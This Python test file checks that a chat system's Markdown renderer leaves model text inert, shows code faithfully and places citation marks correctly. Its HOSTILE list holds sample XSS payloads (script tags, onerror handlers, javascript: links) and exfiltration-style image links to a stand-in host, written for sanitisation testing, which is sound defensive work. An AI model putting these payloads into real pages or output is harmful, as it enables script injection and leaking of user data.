"""Model text as Markdown, through a real Markdown and HTML parser: code shows its characters, and nothing is live."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.grounding.citations import cite
from rag.grounding.lexical_scorer import LexicalScorer
from rag.text.analyzer import english_analyzer
from rag.text.markdown_code import find_code
from rag.types import Sentence
from tests.conftest import passages
from tests.support.parsed_html import ParsedHtml
from web.rendering.markdown import inert_markdown, marked

SCORER = LexicalScorer(english_analyzer().analyze)
FORMATTING = {"p", "br", "em", "strong", "s", "ul", "ol", "li", "blockquote", "hr", "code", "pre", "table", "thead"}
FORMATTING |= {"tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"}


def show(text: str, *marks: tuple[int, str]) -> ParsedHtml:
    """The text as the chat shows it: Markdown in GitHub's flavour, HTML let through."""
    view = MarkdownIt("commonmark", {"html": True, "breaks": True}).enable(["table", "strikethrough"])
    return ParsedHtml(view.render(inert_markdown(text, marks)))


HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![pixel](http://evil.example/?q=secret)",
    "![pixel][ref]\n\n[ref]: http://evil.example/x.png",
    "[click](javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "<http://evil.example>",
    "http://evil.example and HTTPS://evil.example/a?b and ftp://evil.example",
    "www.evil.example and _www.evil.example_ and WWW.evil.example",
    "me@evil.example <me@evil.example> mailto:me@evil.example",
    "&lt;img src=x&gt; &#60;b&#62; &amp;lt;",
    "`<img src=x onerror=alert(1)>` and ``a `<b>` c``",
    "```html\n<script>alert(1)</script>\n[a](http://evil.example)\n```\n<b>after</b>",
    "~~~\n<i>\n~~~\n<i>",
    "```\n<img src=x>\n\n<img src=y>",
    "- item\n  ```\n  <img src=x>\n  ```\n- ![p](http://evil.example/x)",
    "- ```\n  <b>\n  ```",
    "    <img src=x>\n\n    [a](http://evil.example)",
    "> ```\n> <img src=x>\n> ```",
    "`` ` <b> [a](http://evil.example)",
    "\\`<b>\\` \\[a](http://evil.example) \\<b> \\\\<b>",
    "</code></pre><img src=x>`</code><img src=x>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "<!-- <b> --> <![CDATA[<b>]]> <?php <b> ?>",
    "| a | b |\n| --- | --- |\n| `<b>` | <img src=x> |\n",
    "<details open ontoggle=alert(1)>",
    "a\n<style>*{display:none}</style>",
    "[1]: http://evil.example\n\n[1]",
]
BITS = st.sampled_from(
    [
        *("`", "``", "```", "\n```\n", "~~~", "\n~~~\n", "    ", "\n", "\n\n", "\\", "<", ">", "&", "&lt;"),
        *("<img src=x onerror=a>", "</code>", "</pre>", "![a](http://e.example)", "<a href=x>", "www.e.example"),
        *("[", "](", ")", "_", "*", "- ", "1. ", "> ", "| ", "a", "b c", "# ", "!", ";", "&#60;", "<!--", "-->"),
        *("a@b.example", "https://e.example"),
    ]
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_hostile_text_is_live(text: str) -> None:
    _is_inert(text)


@given(st.lists(BITS, max_size=25).map("".join))
def test_nothing_is_live_however_the_parts_of_markdown_are_put_together(text: str) -> None:
    _is_inert(text)


def _is_inert(text: str) -> None:
    source = inert_markdown(text)
    assert not re.search(r"[\[`@]|://|www\.", source, re.IGNORECASE), "links and addresses need these"
    assert set(re.findall(r"<[^>]*>?", source)) <= {"<code>", "</code>", "<pre>", "</pre>"}
    for tag, attributes in show(text).elements:
        assert tag in FORMATTING
        assert attributes.keys() <= {"start", "style"}, "a list's first number, a column's alignment"
        assert (attributes.get("style") or "text-align:").startswith("text-align:")


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("Write `a < b && x[0] == '<p>'` there.", "a < b && x[0] == '<p>'"),
        ("Write ``a `tick` & *b*`` there.", "a `tick` & *b*"),
        ("Write `` `a` `` there.", "`a`"),
        ("A span over\n`two\nlines` is one.", "two lines"),
        (
            "So:\n```python\nif x[0] < 3:\n\n    return '&lt;' # **no**\n```\nThen.",
            "if x[0] < 3:\n\n    return '&lt;' # **no**",
        ),
        ("So:\n\n~~~\n``` <b>\n~~~~\nThen.", "``` <b>"),
        ("1. So:\n   ```\n   a[1]\n     <b>\n   ```\n2. Then.", "a[1]\n  <b>"),
        ("So:\n\n    a[1] = <b>\n\n    c\n\nThen.", "a[1] = <b>\n\nc"),
        ("It is still being written:\n```\nx = [1, 2]\ny <", "x = [1, 2]\ny <"),
        ("- ```\n  x[1]\n  ```\n- Then.", "x[1]"),
        ("- So:\n\n      x[1]\n- Then.", "x[1]"),
        ("Visit `https://e.example/?a=b`.", "https://e.example/?a=b"),
    ],
)
def test_code_shows_its_own_characters(text: str, code: str) -> None:
    assert show(text).code == [code]


def test_outside_code_every_character_shows_too() -> None:
    text = "If a < b & c > d, see [2], me@e.example, https://e.example and x[0]; AT&amp;T says &lt;."
    assert show(text).text.strip() == text
    assert show("Escaped \\[x\\] and \\*stars\\* and \\<b>").text.strip() == "Escaped [x] and *stars* and <b>"


def test_formatting_stays() -> None:
    shown = show("# Head\n\n- **bold** and *thin*\n- ~~gone~~\n\n1. one\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n")
    assert {"h1", "ul", "ol", "li", "strong", "em", "s", "table"} <= set(shown.tags)
    assert "- not code\n    - nested" not in inert_markdown("- a\n\n    - nested")
    assert show("- a\n\n    - nested").code == []


def test_a_mark_stands_where_it_belongs_and_never_inside_code() -> None:
    mark = "<sup>1</sup>"
    assert show("It is so. And so.", (9, mark)).text.strip() == "It is so.1 And so."
    shown = show("So `a. b` it is.", (7, mark), (16, "<sup>2</sup>"))
    assert (shown.text.strip(), shown.code) == ("So a. b1 it is.2", ["a. b"])
    block = "So:\n```\nOne.\nTwo.\n```\nEnd."
    ends = [block.index(word) + len(word) for word in ("So:", "One.", "Two.", "End.")]
    shown = show(block, *((end, mark) for end in ends))
    assert shown.code == ["One.\nTwo."]
    assert shown.tags == ["p", "sup", "pre", "code", "sup", "p", "sup"]


CODE_BITS = st.sampled_from(
    [
        *("`", "``", "\n```\n", "\n~~~\n", "    ", "\t", "  ", "\n", "\n\n", "\\", "- ", "1. ", "> ", "# "),
        *("w [1]", "w [1]", "w [1] w", "a", "<b>", "\n---\n", "\n| a | b |\n| --- | --- |\n"),
    ]
)


@given(st.lists(CODE_BITS, max_size=25).map("".join))
def test_the_page_shows_as_code_exactly_what_the_finder_finds(text: str) -> None:
    assert show(text).code == [code.content for code in find_code(text)]


@given(st.lists(CODE_BITS.filter(lambda bit: "|" not in bit), max_size=25).map("".join))
def test_page_and_citer_agree_on_what_is_code_in_any_text(text: str) -> None:
    codes = find_code(text)
    for sentence in cite(text, "", passages(["w"]), SCORER):
        found = re.finditer(r"\[1\]", text[sentence.start : sentence.end])
        places = [sentence.start + match.start() for match in found]
        in_code = sum(any(code.start <= place < code.end for code in codes) for place in places)
        assert sentence.text.count("[1]") == in_code


def test_what_no_quote_has_is_marked_where_it_stands_and_a_number_of_a_list_is_not() -> None:
    text = "7. It has **7** wheels, 7,000 in `7` boxes."
    sentence = Sentence(start=0, end=len(text), text=text, citations=(), support="unsupported", missing=("7",))
    shown = marked(text, [sentence], lambda _: "!")
    empty, marked_7 = (f'<s class="cw-lacking">{each}</s>' for each in ("", "7"))
    assert shown == f"7. It has **{marked_7}** wheels, 7,000 in <code>7</code>{empty} boxes.!"


@pytest.mark.parametrize(
    ("fact", "tag"),
    [("90", "s"), ("ninety", "s"), ("45 %", "s"), ("Ann", "span"), ("First National", "span"), ("euros", "span")],
)
def test_a_figure_that_no_quote_has_is_struck_through_and_a_name_is_not(fact: str, tag: str) -> None:
    text = f"It is {fact} here."
    sentence = Sentence(start=0, end=len(text), text=text, citations=(), support="weak", missing=(fact,))
    assert f'<{tag} class="cw-lacking">{fact}</{tag}>' in marked(text, [sentence], lambda _: "")
